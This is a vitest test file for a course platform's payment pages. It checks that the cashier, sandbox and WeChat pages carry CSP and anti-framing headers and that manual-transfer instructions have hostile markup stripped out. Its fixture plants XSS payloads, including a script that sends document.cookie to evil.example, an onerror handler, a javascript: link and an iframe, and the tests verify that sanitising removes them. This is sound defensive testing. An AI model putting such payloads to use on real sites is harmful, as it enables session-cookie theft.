import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { UnifiedOrder } from '@kezhan/contract/unified-order';
import type { LightMyRequestResponse } from 'fastify';
import { createTestApp, type TestApp } from '../../../test/test-app';
import { createRole, enablePayments, loginMember, type LoggedInMember } from '../../../test/support/orders';

const FORM = { 'content-type': 'application/x-www-form-urlencoded' };
const PHONE_UA = 'Mozilla/5.0 (iPhone; CPU iPhone OS 17_0 like Mac OS X) Mobile/15E148';

/** Instructions an attacker with the settings (or the database) might plant. */
const PLANTED_INSTRUCTIONS =
  '<p>转账至：课栈科技 6222 0000</p><script>fetch("https://evil.example/?c="+document.cookie)</script>' +
  '<img src="https://cdn.example/qr.png" onerror="alert(1)"><a href="javascript:alert(2)">点我</a><iframe src="https://evil.example"></iframe>';

function expectProtectedPage(res: LightMyRequestResponse) {
  expect(res.headers['content-type']).toBe('text/html; charset=utf-8');
  expect(res.headers['x-frame-options']).toBe('DENY');
  expect(res.headers['x-content-type-options']).toBe('nosniff');
  expect(res.headers['referrer-policy']).toBe('no-referrer');
  const policy = String(res.headers['content-security-policy']);
  expect(policy).toContain("frame-ancestors 'none'");
  expect(policy).toContain("default-src 'none'");
  expect(policy).toContain("script-src 'none'");
  expect(policy).toContain("object-src 'none'");
  expect(policy).toContain("base-uri 'none'");
}

function expectNoScriptFromInstructions(html: string) {
  expect(html).toContain('转账至：课栈科技 6222 0000');
  expect(html).not.toMatch(/<script|onerror|javascript:|<iframe|evil\.example/i);
}

describe('/payment/* pages: framing refused, no script, manual transfer instructions sanitised', () => {
  let t: TestApp;
  let member: LoggedInMember;
  let roleId: number;

  beforeAll(async () => {
    t = await createTestApp();
    member = await loginMember(t, '13960000001');
    roleId = await createRole(t, { name: '年度会员', charge: 199, expire_days: 365 });
    await enablePayments(t, 'sandbox', 'handPay');
    await t.services.settings.set('payment.handPay.introduction', PLANTED_INSTRUCTIONS);
  });
  afterAll(() => t.close());

  const newCashier = async () => {
    const created = await t.request<UnifiedOrder>({
      method: 'POST',
      url: '/api/v3/order',
      payload: { goods_type: 'ROLE', goods_id: roleId, agree_protocol: 1 },
      token: member.token,
    });
    return `/payment/index?sign=${created.data.sign}&s_url=${encodeURIComponent('http://api.test/order/success')}`;
  };
  const choose = (cashierUrl: string, method: string) =>
    t.app.inject({
      method: 'POST',
      url: cashierUrl,
      payload: `payment_method=${method}`,
      headers: { ...FORM, 'user-agent': PHONE_UA },
    });

  it('the cashier, its refusals and the success page carry CSP and frame protection', async () => {
    const cashierUrl = await newCashier();
    const cashier = await t.app.inject({
      method: 'GET',
      url: cashierUrl,
      headers: { 'user-agent': PHONE_UA },
    });
    expect(cashier.statusCode).toBe(200);
    expect(cashier.body).toContain('确认支付');
    expectProtectedPage(cashier);
    const refused = await t.app.inject({
      method: 'GET',
      url: '/payment/index?sign=order-AAAAAAAAAAAAAAAAAAAAAAAA',
    });
    expect(refused.statusCode).toBe(400);
    expectProtectedPage(refused);
    const success = await t.app.inject({ method: 'GET', url: '/payment/success' });
    expect(success.body).toContain('您的交易已完成');
    expectProtectedPage(success);
  });

  it('the cashier’s manual transfer page shows the instructions without their script, handler or frame', async () => {
    const handPay = await choose(await newCashier(), 'handPay');
    expect(handPay.statusCode).toBe(200);
    expect(handPay.body).toContain('线下支付');
    expectNoScriptFromInstructions(handPay.body);
    expect(handPay.body).toContain('<img src="https://cdn.example/qr.png">');
    expectProtectedPage(handPay);
  });

  it('the API answers of the instructions (MeEdu clients show them as HTML) are sanitised too', async () => {
    const order = await t.request<{ order_id: string }>({
      method: 'POST',
      url: '/api/v2/order/role',
      payload: { role_id: roleId },
      token: member.token,
    });
    const v3 = await t.request<{ text: string }>({
      method: 'POST',
      url: '/api/v3/order/pay/handPay',
      payload: { order_id: order.data.order_id },
      token: member.token,
    });
    expect(v3.code).toBe(0);
    expectNoScriptFromInstructions(v3.data.text);
    const v2 = await t.request<{ text: string }>({
      method: 'GET',
      url: '/api/v2/order/pay/handPay',
      token: member.token,
    });
    expectNoScriptFromInstructions(v2.data.text);
  });

  it('the sandbox gateway page (模拟支付) is protected and still pays', async () => {
    const chosen = await choose(await newCashier(), 'sandbox');
    expect(chosen.statusCode).toBe(303);
    const sandboxPath = new URL(chosen.headers.location as string).pathname;
    const sandbox = await t.app.inject({ method: 'GET', url: sandboxPath });
    expect(sandbox.statusCode).toBe(200);
    expect(sandbox.body).toContain('模拟支付 · 测试环境，不会真实扣款');
    expectProtectedPage(sandbox);
    const paid = await t.app.inject({
      method: 'POST',
      url: sandboxPath,
      payload: 'action=pay',
      headers: FORM,
    });
    expect(paid.statusCode).toBe(303);
    const gone = await t.app.inject({ method: 'GET', url: sandboxPath });
    expect(gone.statusCode).toBe(410);
    expectProtectedPage(gone);
  });

  it('the WeChat scan and JSAPI pages are protected when their links are stale', async () => {
    const native = await t.app.inject({ method: 'GET', url: '/payment/wechat/native/unknown-page' });
    expect(native.statusCode).toBe(410);
    expectProtectedPage(native);
    const jsapi = await t.app.inject({ method: 'GET', url: '/payment/wechat/jsapi' });
    expect(jsapi.statusCode).toBe(400);
    expect(jsapi.body).toContain('支付链接已失效');
    expectProtectedPage(jsapi);
  });
});
